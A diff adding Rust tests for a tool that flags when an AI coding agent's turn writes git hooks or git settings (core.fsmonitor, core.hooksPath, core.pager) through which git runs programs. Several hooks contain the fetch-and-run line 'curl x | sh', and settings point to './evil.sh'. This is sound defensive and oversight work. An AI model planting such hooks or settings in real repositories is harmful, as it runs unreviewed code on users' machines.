@@ -1,0 +1,125 @@
+//! What git runs by itself, where agents have written it.
+
+use std::fs;
+use std::os::unix::fs::{PermissionsExt, symlink};
+use std::path::Path;
+
+use agent_q_diff_reviewed::{Moves, Project};
+
+use crate::disk::{git, repository};
+
+fn hook(path: &Path, text: &str) {
+    fs::create_dir_all(path.parent().unwrap()).unwrap();
+    fs::write(path, text).unwrap();
+    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+/// Returns what a look says of the repository beside what is pending.
+fn said(folder: &Path) -> Vec<String> {
+    let mut project = Project::open(folder).unwrap();
+    project.look_unasked().unwrap().notes
+}
+
+/// Does what an agent does in a turn.
+fn in_turn(folder: &Path, act: impl FnOnce()) {
+    let mut project = Project::open(folder).unwrap();
+    project.begin_turn("Codex", "s", "", None).unwrap();
+    act();
+    project.end_turns(None).unwrap();
+}
+
+#[test]
+fn what_a_turn_has_git_run_is_said_until_the_user_knows_it() {
+    let folder = repository();
+    let folder = folder.path();
+    let hooks = folder.join(".git/hooks");
+    hook(&hooks.join("pre-commit"), "check\n");
+    let outside =
+        "Somebody, outside any turn of an agent, wrote .git/hooks/pre-commit, which git runs";
+    assert_eq!(said(folder), [outside]);
+    let know = || Project::open(folder).unwrap().know_programs().unwrap();
+    assert_eq!((know(), know()), (1, 0));
+    assert!(said(folder).is_empty());
+    in_turn(folder, || {
+        fs::remove_file(hooks.join("pre-commit")).unwrap();
+        hook(&hooks.join("post-checkout"), "curl x | sh\n");
+        hook(&hooks.join("pre-push.sample"), "never\n");
+        fs::write(hooks.join("pre-rebase"), "not executable\n").unwrap();
+        git(folder, &["config", "core.fsmonitor", "./evil.sh"]);
+        git(folder, &["config", "branch.main.remote", "origin"]);
+    });
+    let both = [
+        "Codex's turn wrote .git/hooks/post-checkout and core.fsmonitor in .git/config, by which git \
+         can run programs",
+        "Codex's turn deleted .git/hooks/pre-commit, which git ran",
+    ];
+    assert_eq!(said(folder), both);
+    // Of a setting that was there, another value counts, too, and whoever looks has not written it.
+    assert_eq!(said(folder), both);
+    assert_eq!(know(), 2);
+    in_turn(folder, || {
+        git(folder, &["config", "core.fsmonitor", "./worse.sh"]);
+    });
+    assert_eq!(
+        said(folder),
+        ["Codex's turn wrote core.fsmonitor in .git/config, by which git can run programs"]
+    );
+    git(folder, &["config", "core.fsmonitor", "./evil.sh"]);
+    assert!(said(folder).is_empty());
+}
+
+#[test]
+fn hooks_are_found_wherever_the_configuration_has_them() {
+    let folder = repository();
+    let folder = folder.path();
+    // As husky does: the folder is ignored, so none of its files is pending.
+    hook(&folder.join(".husky/_/pre-commit"), "check\n");
+    fs::write(folder.join(".husky/_/.gitignore"), "*\n").unwrap();
+    git(folder, &["config", "core.hooksPath", ".husky/_"]);
+    Project::open(folder).unwrap().know_programs().unwrap();
+    in_turn(folder, || {
+        hook(&folder.join(".husky/_/pre-commit"), "curl x | sh\n")
+    });
+    assert_eq!(
+        said(folder),
+        ["Codex's turn wrote .husky/_/pre-commit, which git runs"]
+    );
+    // What is not ignored is a file like any.
+    fs::remove_file(folder.join(".husky/_/.gitignore")).unwrap();
+    Project::open(folder).unwrap().know_programs().unwrap();
+    in_turn(folder, || {
+        hook(&folder.join(".husky/_/pre-push"), "curl x | sh\n")
+    });
+    assert!(said(folder).is_empty());
+    // A hook that is a link to a file of the project is reviewed as that file.
+    git(folder, &["config", "--unset", "core.hooksPath"]);
+    hook(&folder.join("check"), "check\n");
+    fs::create_dir_all(folder.join(".git/hooks")).unwrap();
+    symlink("../../check", folder.join(".git/hooks/pre-commit")).unwrap();
+    Project::open(folder).unwrap().know_programs().unwrap();
+    in_turn(folder, || hook(&folder.join("check"), "curl x | sh\n"));
+    assert!(said(folder).is_empty());
+}
+
+#[test]
+fn working_trees_share_their_hooks_and_have_settings_of_their_own() {
+    let folder = repository();
+    let folder = folder.path();
+    git(folder, &["config", "extensions.worktreeConfig", "true"]);
+    let other = tempfile::tempdir().unwrap();
+    let other = other.path().join("other");
+    git(folder, &["worktree", "add", "-q", other.to_str().unwrap()]);
+    let mut project = Project::open(&other).unwrap();
+    project.look(Moves::User).unwrap();
+    in_turn(&other, || {
+        hook(&folder.join(".git/hooks/post-merge"), "x\n");
+        git(&other, &["config", "--worktree", "core.pager", "evil"]);
+    });
+    assert_eq!(
+        said(&other),
+        [
+            "Codex's turn wrote .git/hooks/post-merge and core.pager in .git/config.worktree, by which git \
+          can run programs"
+        ]
+    );
+}
